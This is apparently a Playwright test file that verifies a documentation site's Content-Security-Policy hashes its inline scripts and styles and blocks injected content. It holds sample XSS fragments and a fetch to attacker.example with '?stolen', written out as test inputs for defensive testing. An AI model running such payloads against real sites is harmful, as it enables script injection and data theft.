import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import type { Page } from '@playwright/test';
import { currentLabel, publishedVersions } from '../facts/versions';
import { readReleasedVersions } from '../facts/released';
import { expect, hydrated, open, test } from './site';

/** What is wrong with the policies of pages, read and hashed by the browser; the build uses another parser. */
async function judge(page: Page, files: readonly string[]): Promise<readonly string[]> {
  // A page with a policy would apply it to what it parses.
  await page.route('**/judge', (route) => route.fulfill({ contentType: 'text/html', body: '<title>Judge</title>' }));
  await page.goto('judge');
  return page.evaluate(async (urls) => {
    const hash = async (text: string): Promise<string> => {
      const digest = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(text));
      return `'sha256-${btoa(String.fromCharCode(...new Uint8Array(digest)))}'`;
    };
    const known = new Map<string, string>();
    const findings: string[] = [];
    const judgeOne = async (url: string): Promise<void> => {
      const parsed = new DOMParser().parseFromString(await (await fetch(url)).text(), 'text/html');
      const meta = parsed.querySelector('meta[http-equiv="Content-Security-Policy"]');
      const directives = new Map(
        (meta?.getAttribute('content') ?? '').split('; ').map((one) => [one.split(' ')[0], one.split(' ').slice(1)]),
      );
      const inline: [string, string][] = [];
      for (const script of parsed.querySelectorAll('script')) {
        if (meta === null || (meta.compareDocumentPosition(script) & Node.DOCUMENT_POSITION_FOLLOWING) === 0) {
          findings.push(`${url}: a script before the policy`);
        }
        if (!script.hasAttribute('src') && !script.type.includes('json')) {
          inline.push(['script-src', script.textContent]);
        }
      }
      for (const element of parsed.querySelectorAll('[style]')) {
        inline.push(['style-src', element.getAttribute('style') ?? '']);
      }
      if (inline.length === 0) {
        findings.push(`${url}: nothing to judge`);
      }
      for (const [directive, text] of inline) {
        const hashed = known.get(text) ?? (await hash(text));
        known.set(text, hashed);
        if (directives.get(directive)?.includes(hashed) !== true) {
          findings.push(`${url}: ${directive} lacks ${text.slice(0, 60)}`);
        }
      }
      const sources = [...directives.values()].flat().filter((source) => !source.startsWith("'sha256-"));
      for (const source of new Set(sources)) {
        if (!["'self'", "'none'", "'unsafe-hashes'", 'data:'].includes(source)) {
          findings.push(`${url}: ${source}`);
        }
      }
    };
    for (let next = 0; next < urls.length; next += 8) {
      await Promise.all(urls.slice(next, next + 8).map(judgeOne));
    }
    return findings;
  }, files);
}

test('every page has a policy that names its inline scripts and styles, and no other host', async ({ page }) => {
  const files = readdirSync('build', { recursive: true, encoding: 'utf8' })
    .filter((file) => file.endsWith('.html'))
    .map((file) => file.split(path.sep).join('/'));
  expect(files.length).toBeGreaterThan(150);
  expect(await judge(page, files)).toEqual([]);
});

test('the judge of policies finds what one lacks', async ({ page }) => {
  await page.route('**/lacking', (route) =>
    route.fulfill({
      contentType: 'text/html',
      body: `<script>a()</script><meta http-equiv="Content-Security-Policy" content="script-src *"><i style="color:red">`,
    }),
  );
  expect(await judge(page, ['lacking'])).toEqual([
    'lacking: a script before the policy',
    'lacking: script-src lacks a()',
    'lacking: style-src lacks color:red',
    'lacking: *',
  ]);
});

const attacks = {
  'script-src-elem': '<script>window.hacked = "inline"</script>',
  'script-src-attr': '<img src="data:," onerror="window.hacked = \'handler\'">',
  'style-src-elem': '<style>body { display: none }</style>',
  'style-src-attr': '<p style="background: url(https://attacker.example/)"></p>',
  'img-src': '<img src="https://attacker.example/pixel">',
  'frame-src': '<iframe src="https://attacker.example/"></iframe>',
  'object-src': '<object data="data:text/html,hack"></object>',
  'base-uri': '<base href="https://attacker.example/">',
};

for (const where of ['docs/guides/faq', 'typedoc/', '404.html']) {
  test(`what is injected into ${where} neither runs nor loads anything`, async ({ page, misbehavior }) => {
    const reached: string[] = [];
    page.on('request', (request) => reached.push(request.url()));
    page.on('requestfailed', (request) => {
      if (request.failure()?.errorText === 'csp') {
        reached.splice(reached.indexOf(request.url()), 1);
      }
    });
    await page.goto(where);
    const violated = await page.evaluateHandle((fragments) => {
      const found: string[] = [];
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => found.push(effectiveDirective));
      for (const fragment of fragments) {
        document.body.append(document.createRange().createContextualFragment(fragment));
      }
      fetch('https://attacker.example/?stolen').catch(() => undefined);
      return found;
    }, Object.values(attacks));
    await expect
      .poll(async () => [...new Set(await violated.jsonValue())].sort())
      .toEqual([...Object.keys(attacks), 'connect-src'].sort());
    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    expect(reached.filter((url) => url.includes('attacker'))).toEqual([]);
    misbehavior.messages.length = 0;
    misbehavior.requests.length = 0;
  });
}

test('pages work with the headers of the file _headers', async ({ page }) => {
  const [, policy = ''] = /^ {2}Content-Security-Policy: (.*)$/m.exec(readFileSync('build/_headers', 'utf8')) ?? [];
  expect(policy).toContain("; object-src 'none'; base-uri 'none';");
  expect(policy).not.toContain('unsafe-inline');
  await page.route('**/*', (route) =>
    route.request().isNavigationRequest()
      ? route.fulfill({
          path: path.join(
            'build',
            new URL(route.request().url()).pathname.replace('/mongodb-memory-server/', ''),
            'index.html',
          ),
          headers: { 'Content-Security-Policy': policy },
        })
      : route.continue(),
  );
  const published = publishedVersions(readReleasedVersions('.'));
  expect(published[currentLabel]).toBe('');
  for (const segment of Object.values(published).map((one) => (one === '' ? '' : `${one}/`))) {
    await page.goto(`./${segment}docs/guides/faq/`);
    await hydrated(page);
    await page.goto(`./${segment}typedoc/`);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  }
  await open(page, './');
});
